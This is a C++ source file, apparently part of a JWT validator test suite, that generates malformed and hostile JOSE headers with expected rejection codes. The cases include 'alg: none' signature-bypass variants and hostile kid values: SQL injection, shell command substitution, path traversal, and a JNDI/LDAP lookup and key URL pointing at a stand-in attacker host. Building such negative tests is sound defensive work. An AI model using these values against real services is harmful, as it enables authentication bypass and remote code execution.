// The JOSE header (RFC 7515 section 4): alg, crit, b64, zip, typ and kid. Keys that come with the token stand in attacks_key.cpp.
#include "mint/attack_list.h"

namespace assay::mint {
namespace {

// Values that are no strings.
const std::vector<NamedJson>& not_strings() {
  static const std::vector<NamedJson> all = {{"number", "7"}, {"float", "1.5"}, {"true", "true"},          {"false", "false"},
                                             {"null", "null"}, {"array", R"(["x"])"}, {"empty-array", "[]"}, {"object", R"({"x":"y"})"}};
  return all;
}

void add_algorithms(AttackList& list) {
  const auto with_algorithm = [&](const std::string& json) { return list.with_header("alg", json); };
  const char* const none_rule = "RFC 8725 section 3.1";
  const std::vector<NamedJson> nones = {
      {"lower", R"("none")"},       {"title", R"("None")"},          {"upper", R"("NONE")"},          {"mixed-1", R"("nOnE")"},
      {"mixed-2", R"("NoNe")"},     {"mixed-3", R"("nonE")"},        {"trailing-space", R"("none ")"}, {"leading-space", R"(" none")"},
      {"tab", R"("none\t")"},       {"line-feed", R"("\nnone")"},    {"zero", R"("n0ne")"},           {"nul", R"("none\u0000")"},
      {"escaped", R"("\u006eone")"}, {"cyrillic", "\"n\xd0\xbene\""}, {"empty", R"("")"},              {"blank", R"(" ")"},
      {"word-null", R"("null")"},   {"word-undefined", R"("undefined")"}, {"word-false", R"("false")"}, {"digit", R"("0")"}};
  for (const NamedJson& none : nones) {
    const std::string name = "alg-none-" + none.name;
    const TokenBuilder parts = TokenBuilder().header(list.header_with("alg", none.json).text()).payload(list.claims().text());
    const std::string what = "alg is " + none.json;
    list.add(name, what + "; the signature is a good one for ES256.", none_rule, Code::unknown_algorithm, TokenBuilder(parts).sign(list.key()).text());
    list.add(name + "-junk-signature", what + "; the signature is one octet.", none_rule, Code::unknown_algorithm,
             TokenBuilder(parts).signature("x").text());
    list.add(name + "-no-signature", what + "; the signature part is empty.", none_rule, Code::not_compact, parts.text());
  }
  list.add("alg-missing", "The header has no alg.", "RFC 7515 section 4.1.1", Code::unknown_algorithm, list.sign_header(list.header().remove("alg")));
  list.add("header-no-members", "The header is an empty object.", "RFC 7515 section 4.1.1", Code::unknown_algorithm,
           list.sign_header(std::string_view("{}")));
  for (const NamedJson& value : not_strings()) {
    list.add("alg-" + value.name, "alg is no string.", "RFC 7515 section 4.1.1", Code::unknown_algorithm, with_algorithm(value.json));
  }
  list.add("alg-array-of-one", "alg is an array with a good algorithm.", "RFC 7515 section 4.1.1", Code::unknown_algorithm,
           with_algorithm(R"(["ES256"])"));
  // Names that are nearly one of ours, or that JOSE knows for other things.
  const std::vector<NamedText> unknown = {
      {"lower", "", "es256"},          {"title", "", "Es256"},     {"trailing-space", "", "ES256 "}, {"leading-space", "", " ES256"},
      {"hyphen", "", "ES-256"},        {"es256k", "", "ES256K"},   {"es257", "", "ES257"},           {"prefix", "", "ES25"},
      {"family", "", "ES"},            {"suffix", "", "ES2566"},   {"rs1", "", "RS1"},               {"rs", "", "RS"},
      {"eddsa-upper", "", "EDDSA"},    {"eddsa-lower", "", "eddsa"}, {"ed25519-lower", "", "ed25519"}, {"ed448", "", "Ed448"},
      {"hs256", "", "HS256"},          {"hs384", "", "HS384"},     {"hs512", "", "HS512"},           {"hs256-lower", "", "hs256"},
      {"hs1", "", "HS1"},              {"hs256-64", "", "HS256/64"}, {"a256kw", "", "A256KW"},       {"a128gcm", "", "A128GCM"},
      {"dir", "", "dir"},              {"rsa-oaep", "", "RSA-OAEP"}, {"rsa1-5", "", "RSA1_5"},       {"ecdh-es", "", "ECDH-ES"},
      {"pbes2", "", "PBES2-HS256+A128KW"}, {"java", "", "SHA256withECDSA"}, {"esb256", "", "ESB256"}, {"esp256", "", "ESP256"},
      {"ml-dsa", "", "ML-DSA-44"},     {"cose", "", "-7"}};
  for (const NamedText& name : unknown) {
    list.add("alg-unknown-" + name.name, "alg is \"" + name.text + "\".", "RFC 7515 section 4.1.1", Code::unknown_algorithm,
             with_algorithm(quote(name.text)));
  }
  list.add("alg-unknown-nul", "alg is a good one followed by a NUL.", "RFC 7515 section 4.1.1", Code::unknown_algorithm,
           with_algorithm(R"("ES256\u0000")"));
  list.add("alg-escaped", "alg is written with an escape.", "RFC 7515 section 4.1.1", Code::accepted, with_algorithm(R"("\u0045S256")"));
}

void add_extensions(AttackList& list) {
  const std::vector<NamedJson> crits = {{"array-known", R"(["exp"])"},
                                        {"array-unknown", R"(["x-unknown"])"},
                                        {"array-alg", R"(["alg"])"},
                                        {"array-kid", R"(["kid"])"},
                                        {"array-b64", R"(["b64"])"},
                                        {"array-empty", "[]"},
                                        {"array-empty-name", R"([""])"},
                                        {"array-twice", R"(["exp","exp"])"},
                                        {"array-number", "[1]"},
                                        {"array-null", "[null]"},
                                        {"array-nested", R"([["exp"]])"},
                                        {"array-many", R"(["a","b","c","d","e"])"},
                                        {"string", R"("exp")"},
                                        {"string-empty", R"("")"},
                                        {"null", "null"},
                                        {"true", "true"},
                                        {"false", "false"},
                                        {"number", "0"},
                                        {"object", R"({"exp":true})"},
                                        {"object-empty", "{}"},
                                        {"array-itself", R"(["crit"])"}};
  for (const NamedJson& crit : crits) {
    list.add("crit-" + crit.name, "crit is " + crit.json + ".", "RFC 7515 section 4.1.11", Code::critical_header,
             list.sign_header(list.header_with("exp", "1").set("crit", crit.json)));
  }
  list.add("crit-unencoded-payload", "crit and b64 together ask for an unencoded payload, as the standard has it.", "RFC 7797 section 6",
           Code::critical_header, list.sign_header(list.header_with("b64", "false").set("crit", R"(["b64"])")));
  list.add("crit-escaped", "crit has an escape in its name.", "RFC 7515 section 4.1.11", Code::critical_header,
           list.sign_header(std::string_view(R"({"cri\u0074":["exp"],)" + list.header().text().substr(1))));
  for (const NamedJson& b64 :
       std::vector<NamedJson>{{"false", "false"}, {"true", "true"}, {"null", "null"}, {"string", R"("false")"}, {"number", "0"}, {"array", "[]"}}) {
    list.add("b64-" + b64.name, "b64 is " + b64.json + ".", "RFC 7797 section 3", Code::unencoded_payload, list.with_header("b64", b64.json));
  }
  for (const NamedJson& zip :
       std::vector<NamedJson>{{"def", R"("DEF")"}, {"empty", R"("")"}, {"null", "null"}, {"unknown", R"("GZIP")"}, {"number", "1"}}) {
    list.add("zip-" + zip.name, "zip is " + zip.json + ".", "RFC 8725 section 3.6", Code::compressed, list.with_header("zip", zip.json));
  }
  for (const NamedJson& cty : std::vector<NamedJson>{{"jwt", R"("JWT")"}, {"number", "5"}, {"null", "null"}}) {
    list.add("cty-" + cty.name, "cty is " + cty.json + ", which nobody reads.", "RFC 7515 section 4.1.10", Code::accepted,
             list.with_header("cty", cty.json));
  }
  list.add("enc-ignored", "The header has members of encrypted tokens, which mean nothing here.", "RFC 7515 section 4", Code::accepted,
           list.sign_header(list.header_with("enc", R"("A256GCM")").set("epk", "{}").set("p2c", "2000000000")));
}

void add_types(AttackList& list) {
  const std::vector<NamedText> good = {{"at-jwt", "", "at+jwt"},
                                       {"at-jwt-upper", "", "AT+JWT"},
                                       {"at-jwt-title", "", "At+Jwt"},
                                       {"at-jwt-media", "", "application/at+jwt"},
                                       {"at-jwt-media-upper", "", "APPLICATION/AT+JWT"},
                                       {"jwt", "", "JWT"},
                                       {"jwt-lower", "", "jwt"},
                                       {"jwt-media", "", "application/jwt"},
                                       {"jwt-media-title", "", "Application/JWT"}};
  for (const NamedText& typ : good) {
    list.add("typ-good-" + typ.name, "typ is \"" + typ.text + "\".", "RFC 9068 section 4", Code::accepted, list.with_header("typ", quote(typ.text)));
  }
  list.add("typ-missing", "The header has no typ.", "RFC 7515 section 4.1.9", Code::accepted, list.sign_header(list.header().remove("typ")));
  const std::vector<NamedJson> others = {{"jwe", "\"JWE\""},
                                         {"jose", "\"JOSE\""},
                                         {"jose-json", "\"JOSE+JSON\""},
                                         {"id-token", "\"id_token+jwt\""},
                                         {"logout", "\"logout+jwt\""},
                                         {"dpop", "\"dpop+jwt\""},
                                         {"secevent", "\"secevent+jwt\""},
                                         {"introspection", "\"token-introspection+jwt\""},
                                         {"refresh", "\"rt+jwt\""},
                                         {"empty", "\"\""},
                                         {"space", "\"at+jwt \""},
                                         {"leading-space", "\" JWT\""},
                                         {"parameter", "\"at+jwt;v=1\""},
                                         {"nul", R"("JWT\u0000")"},
                                         {"prefix-alone", "\"application/\""},
                                         {"prefix-twice", "\"application/application/at+jwt\""},
                                         {"other-tree", "\"text/jwt\""},
                                         {"slash", "\"/jwt\""},
                                         {"prefix", "\"at+jw\""},
                                         {"suffix", "\"at+jwts\""},
                                         {"percent", "\"at%2Bjwt\""},
                                         {"blank-for-plus", "\"at jwt\""},
                                         {"list", "\"JWT,at+jwt\""},
                                         {"fullwidth", "\"\xef\xbd\x81t+jwt\""}};
  for (const NamedJson& typ : others) {
    list.add("typ-other-" + typ.name, "typ is " + typ.json + ".", "RFC 8725 section 3.11", Code::type_not_allowed, list.with_header("typ", typ.json));
  }
  for (const NamedJson& value : not_strings()) {
    list.add("typ-" + value.name, "typ is no string.", "RFC 7515 section 4.1.9", Code::bad_header_member, list.with_header("typ", value.json));
  }
}

void add_kids(AttackList& list) {
  const char* const rfc = "RFC 7515 section 4.1.4";
  const std::string kid = list.key().kid();
  for (const NamedJson& value : not_strings()) {
    list.add("kid-" + value.name, "kid is no string.", rfc, Code::bad_header_member, list.with_header("kid", value.json));
  }
  list.add("kid-array-of-good", "kid is an array with a good one.", rfc, Code::bad_header_member, list.with_header("kid", "[" + quote(kid) + "]"));
  const std::vector<NamedText> unknown = {
      {"unknown", "names no key", "no-such-key"},
      {"empty", "is empty", ""},
      {"prefix", "lacks the last character of a good one", kid.substr(0, kid.size() - 1)},
      {"suffix", "has one character more than a good one", kid + "1"},
      {"case", "is a good one in capitals", upper(kid)},
      {"trailing-space", "is a good one and a blank", kid + " "},
      {"trailing-nul", "is a good one and a NUL", kid + std::string(1, '\0')},
      {"nul-and-more", "is a good one that goes on after a NUL", kid + std::string(1, '\0') + "x"},
      {"path", "is a path that leads elsewhere", "../../../../../../dev/null"},
      {"absolute-path", "is the path of a file with known content", "/proc/sys/kernel/randomize_va_space"},
      {"sql", "is SQL", "x' UNION SELECT 'AAAA' --"},
      {"shell", "is a command", "$(reboot)|;`reboot`"},
      {"url", "is a URL", "https://attacker.example.com/key.pem"},
      {"ldap", "is a JNDI reference", "${jndi:ldap://attacker.example.com/x}"},
      {"format", "is a format string", "%s%s%n%x{}{0}"},
      {"log", "has line breaks and a forged log line", "x\r\nlevel=info accepted"},
      {"terminal", "has control sequences of terminals", "\x1b[2J\x1b]0;owned\x07"},
      {"nul", "is a NUL", std::string(1, '\0')},
      {"unicode", "has an accent in place of an ASCII letter", utf8(U'\u00e9') + kid.substr(1)},
      {"fullwidth", "has a fullwidth letter, which NFKC folds to a good one", utf8(U'\uff45') + kid.substr(1)},
      {"right-to-left", "is written from right to left", utf8(U'\u202e') + kid},
      {"number-text", "is a number in a string", "0"},
      {"null-text", "is the word null", "null"},
      {"wildcard", "is a wildcard", "*"},
  };
  for (const NamedText& text : unknown) {
    list.add("kid-" + text.name, "kid " + text.what + ".", rfc, Code::unknown_key, list.with_header("kid", quote(text.text)));
  }
  list.add("kid-escaped", "kid is a good one written with an escape.", rfc, Code::accepted,
           list.with_header("kid", R"("\u0065)" + kid.substr(1) + '"'));
}

}  // namespace

void add_header_attacks(AttackList& list) {
  add_algorithms(list);
  add_extensions(list);
  add_types(list);
  add_kids(list);
}

}  // namespace assay::mint
